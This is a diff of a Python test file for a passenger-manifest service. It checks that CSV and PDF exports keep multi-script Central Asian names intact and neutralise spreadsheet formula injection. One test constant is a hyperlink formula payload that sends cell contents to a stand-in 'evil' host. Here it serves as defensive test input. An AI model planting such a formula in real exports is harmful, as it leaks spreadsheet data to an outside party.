@@ -6,14 +6,15 @@ from __future__ import annotations
 import csv
 import io
 import uuid
-import zlib
 from datetime import UTC, date, datetime
+from pathlib import Path
 
 import pytest
+from pypdf import PdfReader
 
 from contracts.transport import ManifestPassenger
 from services.transport.domain import inert_cell, manifest_csv
-from services.transport.pdf import manifest_pdf
+from services.transport.pdf import ManifestFonts, MissingFont, manifest_pdf
 
 # The two payloads of the security review, tried against a real export.
 HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"click")'
@@ -63,33 +64,60 @@ def test_the_review_s_payloads_come_out_of_the_csv_as_text() -> None:
     assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
 
 
-def test_the_pdf_shows_the_payloads_as_text_too() -> None:
-    document = manifest_pdf(
+def _pdf(passengers: list[ManifestPassenger]) -> bytes:
+    return manifest_pdf(
         movement_id="MOV-1",
         vehicle_id="BUS-1",
         route="kaz-uzb-tjk",
         departure="2026-12-01",
         revision=1,
-        passengers=[passenger("=CMD", "+Ali")],
+        passengers=passengers,
         printed_at=datetime(2026, 12, 1, tzinfo=UTC),
         printed_by="kaz-duty",
+        fonts=ManifestFonts.dejavu(),
     )
-    text = b"".join(_streams(document))
-    assert b"('=CMD)" in text and b"('+Ali)" in text
 
 
-def _streams(document: bytes) -> list[bytes]:
-    """The page content streams of an fpdf2 document (deflated), decompressed."""
-    found, at = [], 0
-    while (start := document.find(b"stream\n", at)) != -1:
-        end = document.find(b"endstream", start)
-        chunk = document[start + 7 : end].rstrip(b"\r\n")
-        try:
-            found.append(zlib.decompress(chunk))
-        except zlib.error:
-            found.append(chunk)
-        at = end
-    return found
+def _text(document: bytes) -> str:
+    """The text a reader (or a copy and paste) gets out of the PDF."""
+    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(document)).pages)
+
+
+def test_the_pdf_shows_the_payloads_as_text_too() -> None:
+    text = _text(_pdf([passenger("=CMD", "+Ali")]))
+    assert "'=CMD" in text and "'+Ali" in text
+
+
+# Names as intake accepts and keeps them: Uzbek Latin with the modifier letter turned comma
+# (U+02BB, not an apostrophe), Tajik Latin and Cyrillic with Tajik's own letters, Russian, Kazakh.
+NAMES = [
+    ("Oʻrinov", "Gʻulom"),
+    ("Qodirova", "Shoʻhrat Oʻgʻiloy"),
+    ("Қодиров", "Ғуломҷон"),
+    ("Раҳимзода", "Зарина Ӯлмасовна"),
+    ("Щербакова", "Юлия Ёсифовна"),
+    ("Сәрсенбаев", "Нұрлан Өмірұлы"),
+    ("Nazarova-Karimova", "Ḩabiba"),
+]
+
+
+def test_the_pdf_prints_every_name_exactly_as_registered_in_any_script() -> None:
+    document = _pdf([passenger(surname, given) for surname, given in NAMES])
+    words = _text(document).split()
+    for surname, given in NAMES:
+        for word in (surname, *given.split()):
+            assert word in words, f"{word!r} is not in the manifest as registered"
+    assert "?" not in "".join(words), "a character was replaced"
+
+
+def test_the_csv_keeps_every_script_too() -> None:
+    rows = list(csv.reader(io.StringIO(manifest_csv([passenger(s, g) for s, g in NAMES]))))
+    assert [(r[2], r[3]) for r in rows[1:]] == NAMES
+
+
+def test_a_missing_font_stops_the_service_at_start_with_what_to_install(tmp_path: Path) -> None:
+    with pytest.raises(MissingFont, match="fonts-dejavu-core"):
+        ManifestFonts.dejavu(tmp_path)
 
 
 def test_a_manifest_passenger_carries_only_what_a_post_checks_a_document_against() -> None:
